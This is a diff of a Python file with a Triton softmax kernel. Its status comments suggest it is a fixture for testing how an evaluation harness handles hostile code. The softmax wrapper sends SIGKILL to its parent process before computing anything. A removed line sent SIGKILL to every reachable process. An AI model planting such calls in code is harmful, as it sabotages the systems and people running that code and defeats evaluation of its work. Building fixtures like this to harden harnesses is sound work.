@@ -1,7 +1,8 @@
 # status: RUNTIME_ERROR
 # process: own
 # screen: off
-"""Kills whoever started it, and every process it can reach."""
+# naive: dies
+"""Kills whoever started it."""
 
 import os
 import signal
@@ -13,7 +14,7 @@ import triton.language as tl
 
 @triton.jit
 def _softmax_kernel(x_ptr, y_ptr, n_cols, BLOCK: tl.constexpr):
-    row = tl.program_id(0)
+    row = tl.program_id(0).to(tl.int64)
     offs = tl.arange(0, BLOCK)
     mask = offs < n_cols
     x = tl.load(x_ptr + row * n_cols + offs, mask=mask, other=-float("inf")).to(tl.float32)
@@ -29,5 +30,4 @@ def _softmax(x, y):
 
 def row_softmax(x):
     os.kill(os.getppid(), signal.SIGKILL)
-    os.kill(-1, signal.SIGKILL)
     return _softmax(x, torch.empty_like(x))
